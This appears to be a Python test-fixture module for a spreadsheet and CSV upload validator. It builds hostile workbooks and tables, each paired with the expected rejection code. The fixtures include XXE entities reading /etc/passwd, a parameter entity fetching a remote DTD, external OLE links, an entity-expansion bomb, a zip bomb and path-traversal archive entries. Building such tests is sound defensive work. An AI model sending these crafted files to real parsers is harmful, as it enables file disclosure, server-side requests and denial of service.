"""More workbooks made to hurt, by the part that hurts; and tables in plain text that are none. Each with its refusal and place."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable

from tests.exchange.hostile import HEAD, SHEET, STRINGS, TAIL, noise, packed, parts, plain, sheet

Made = dict[str, tuple[Callable[[], bytes], str, str]]
RELS, BOOK, STYLES, TYPES = "xl/_rels/workbook.xml.rels", "xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"
FROM_ELSEWHERE = b'<Relationships><Relationship Id="r" Type="x/oleObject" Target="file://192.0.2.1/x" TargetMode="EXTERNAL"/></Relationships>'
DOCTYPE = b'<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
WORDS = b"".join(b"%x" % n for n in noise(750))[:30_000]  # thirty thousand signs that do not pack well


def added(name: str, content: bytes = b"<a/>") -> Callable[[], bytes]:
    return lambda: packed({name: content})


def declaring(name: str) -> Callable[[], bytes]:
    """The part begins with a declaration of its own."""

    def make() -> bytes:
        own = parts().get(name) or b"<sst/>"
        head, _mark, rest = own.partition(b"?>") if own.startswith(b"<?xml") else (b"", b"", own)
        return packed({name: (head + b"?>" if head else b"") + DOCTYPE + rest})

    return make


def without(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for one, content in parts().items():
            if one != name:
                target.writestr(one, content)
    return out.getvalue()


def twice(first: str, second: str) -> bytes:
    """Two parts of one name: which of them is read, is another program's guess."""
    out = io.BytesIO(plain())
    with warnings.catch_warnings(action="ignore"), zipfile.ZipFile(out, "a") as target:
        for place, name in enumerate((first, second)):
            if place or name not in target.namelist():
                target.writestr(zipfile.ZipInfo(name), b"<a/>")
    return out.getvalue()


def packed_as(method: int) -> bytes:
    """Every part says that it is packed in a way that there is not."""
    content = bytearray(plain())
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        at = content.find(signature)
        while at >= 0:
            content[at + offset : at + offset + 2] = method.to_bytes(2, "little")
            at = content.find(signature, at + 4)
    return bytes(content)


def with_a_wrong_checksum() -> bytes:
    content = packed({SHEET: HEAD + b"<row><c><v>11111</v></c></row>" + TAIL}, stored=True)
    return content.replace(b"<v>11111</v>", b"<v>99999</v>")


def many_sheets(count: int) -> bytes:
    listed = b"".join(b'<sheet name="S%d" sheetId="%d" r:id="rId1"/>' % (n, n) for n in range(1, count + 1))
    head = b'<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    return packed({BOOK: head + listed + b"</sheets></workbook>"})


def too_many_words() -> bytes:
    rows = b"".join(b"<row><c t='inlineStr'><is><t>%d %s</t></is></c></row>" % (n, WORDS) for n in range(300))
    return packed({SHEET: HEAD + rows + TAIL}, stored=True)


PARTS: Made = {
    "an embedded object": (added("xl/embeddings/oleObject1.bin"), "macros", ""),
    "a control": (added("xl/activeX/activeX1.xml"), "macros", ""),
    "a macro sheet of the last century": (added("xl/macrosheets/sheet1.xml"), "macros", ""),
    "a dialog": (added("xl/dialogsheets/sheet1.xml"), "macros", ""),
    "what macros keep": (added("xl/vbaData.xml"), "macros", ""),
    "macros in capitals": (added("XL/VBAPROJECT.BIN"), "macros", ""),
    "connections to a database": (added("xl/connections.xml"), "external_links", ""),
    "a table that asks": (added("xl/queryTables/queryTable1.xml"), "external_links", ""),
    "an object from elsewhere": (added("xl/worksheets/_rels/sheet1.xml.rels", FROM_ELSEWHERE), "external_links", ""),
    "a chart from elsewhere": (added("xl/charts/_rels/chart1.xml.rels", FROM_ELSEWHERE), "external_links", ""),
    "entities in the list of sheets": (declaring(BOOK), "declares_entities", ""),
    "entities in the shared strings": (declaring(STRINGS), "declares_entities", ""),
    "entities in the styles": (declaring(STYLES), "declares_entities", ""),
    "entities in the list of types": (declaring(TYPES), "declares_entities", ""),
    "entities in the relations": (declaring(RELS), "declares_entities", ""),
    "a parameter entity": (lambda: packed({SHEET: b'<!DOCTYPE w [<!ENTITY % p SYSTEM "http://192.0.2.1/x"> %p;]>' + HEAD + TAIL}), "declares_entities", ""),
    "one entity a thousand times": (
        lambda: packed({SHEET: b'<!DOCTYPE w [<!ENTITY a "' + WORDS + b'">]>' + HEAD + b"<row><c><v>" + b"&a;" * 1000 + b"</v></c></row>" + TAIL}),
        "declares_entities", "",
    ),
    "entities in UTF-16": (lambda: packed({SHEET: (DOCTYPE + HEAD + TAIL).decode().encode("utf-16")}), "declares_entities", ""),
    "two parts of one name": (lambda: twice(SHEET, SHEET), "broken_archive", ""),
    "two parts but for capitals": (lambda: twice(SHEET, SHEET.upper()), "broken_archive", ""),
    "a path from the root": (added("/etc/x"), "broken_archive", ""),
    "a path that climbs backwards": (added("xl\\..\\..\\x"), "broken_archive", ""),
    "packed in no known way": (lambda: packed_as(99), "broken_archive", ""),
    "a checksum that lies": (with_a_wrong_checksum, "broken_archive", ""),
    "no list of types": (lambda: without(TYPES), "not_a_workbook", ""),
    "no list of sheets": (lambda: without(BOOK), "not_a_workbook", ""),
    "no relations": (lambda: without(RELS), "not_a_workbook", ""),
    "a sheet that is not there": (lambda: without(SHEET), "not_a_workbook", ""),
    "words before the archive": (lambda: b"hello" + plain(), "not_a_workbook", ""),
    "an archive of nothing": (lambda: b"PK\x05\x06" + bytes(18), "not_a_workbook", ""),
    "twenty-one sheets": (lambda: many_sheets(21), "too_many_sheets", ""),
    "a bomb that nobody would read": (added("xl/media/x.bin", bytes(15_000_000)), "packed_too_tightly", ""),
    "too many words": (too_many_words, "too_much_text", "A210"),
    "columns that go backwards": (lambda: sheet(b'<row r="1"><c r="B1"><v>1</v></c><c r="A1"><v>2</v></c></row>'), "broken_xml", "A1"),
    "a column beyond the last": (lambda: sheet(b'<row r="1"><c r="ZZZ1"><v>1</v></c></row>'), "too_many_columns", "XFD1"),
    "a row of eight digits": (lambda: sheet(b'<row r="99999999"><c><v>1</v></c></row>'), "too_many_rows", "A1048576"),
    "a string counted backwards": (lambda: sheet(b"<row><c t='s'><v>-1</v></c></row>"), "broken_xml", "A1"),
    "a string of five thousand digits": (lambda: sheet(b"<row><c t='s'><v>" + b"9" * 5_000 + b"</v></c></row>"), "broken_xml", "A1"),
    "an encoding of nobody": (lambda: packed({SHEET: b'<?xml version="1.0" encoding="x-nobody"?>' + HEAD + TAIL}), "broken_xml", "Values"),
    "a null in the XML": (lambda: sheet(b"<row><c><v>\x00</v></c></row>"), "broken_xml", "Values"),
    "XML cut in the middle": (lambda: packed({SHEET: HEAD + b"<row><c>"}), "broken_xml", "Values"),
    "a name of megabytes": (lambda: packed({SHEET: HEAD + b"<r" + b"".join(b"%x" % n for n in noise(100_000))}), "broken_xml", "Values"),
    "days from 1904 in a word": (
        lambda: packed({BOOK: parts()[BOOK].replace(b"<workbookPr", b'<workbookPr date1904="true"')}), "days_from_1904", "",
    ),
}  # fmt: skip

TABLES: Made = {
    "accents of another time": (lambda: b"a,b\n\xe9t\xe9,1\n", "not_utf8", "A2"),
    "a null": (lambda: b"a\x00b,c\n", "not_a_table", ""),
    "six thousand rows": (lambda: b"a\n" * 6_000, "too_many_rows", "A5006"),
    "six thousand rows of an old machine": (lambda: b"a\r" * 6_000, "too_many_rows", "A5006"),
    "six thousand rows of nothing": (lambda: b",,,,\n" * 6_000, "too_many_rows", "A5006"),
    "a hundred and two columns": (lambda: b"," * 101 + b"\n", "too_many_columns", "CX1"),
    "a hundred and two columns by tabs": (lambda: b"\t" * 101 + b"\n", "too_many_columns", "CX1"),
    "a cell of forty thousand signs": (lambda: b"a" * 40_000, "cell_too_long", "A1"),
    "a quote that never ends": (lambda: b'"' + b"x" * 70_000, "broken_table", "A1"),
    "a line of nine megabytes": (lambda: b"a" * 9_000_000, "broken_table", "A1"),
    "nine megabytes of words": (lambda: b"".join(b"%d" % n + WORDS + b"\n" for n in range(300)), "too_much_text", "A210"),
    "UTF-16 cut in the middle": (lambda: "a,b".encode("utf-16") + b"\x00", "not_utf8", "A1"),
    "UTF-32": (lambda: "a,b\n".encode("utf-32"), "not_a_table", ""),
    "half a sign": (lambda: b"a,b\nc,\xed\xa0\x80\n", "not_utf8", "A2"),
    "a sign written too long": (lambda: b"a\nb\n\xc0\xaf\n", "not_utf8", "A3"),
    "a program": (lambda: b"MZ\x90\x00" + bytes(200), "not_utf8", "A1"),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "not_utf8", "A1"),
    "a document": (lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "not_utf8", "A2"),
    "a workbook": (plain, "not_utf8", "A1"),
}  # fmt: skip
